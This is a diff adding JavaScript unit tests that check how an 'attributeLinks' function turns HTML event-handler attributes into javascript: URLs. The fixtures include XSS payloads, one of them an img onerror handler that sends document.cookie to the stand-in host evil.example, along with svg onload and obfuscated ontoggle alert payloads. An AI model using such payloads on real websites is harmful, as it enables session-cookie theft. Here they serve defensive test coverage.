@@ -85,3 +85,14 @@ describe('attributeLinks: documents and animations', () => {
     ]);
   });
 });
+
+describe('attributeLinks: event handlers', () => {
+  it('reads an event handler as the javascript: URL of its code', () => {
+    expect(
+      attributeLinks('<img src="https://a.org/x" onerror="location=`//evil.example/`+document.cookie">'),
+    ).toEqual(['https://a.org/x', 'javascript:location=`//evil.example/`+document.cookie']);
+    expect(attributeLinks('<svg onload=alert(1)>')).toEqual(['javascript:alert(1)']);
+    expect(attributeLinks('<details open ONTOGGLE="al&#9;ert(1)">')).toEqual(['javascript:alert(1)']);
+    expect(attributeLinks('<span one>x</span> <p title="onerror=x">')).toEqual([]);
+  });
+});
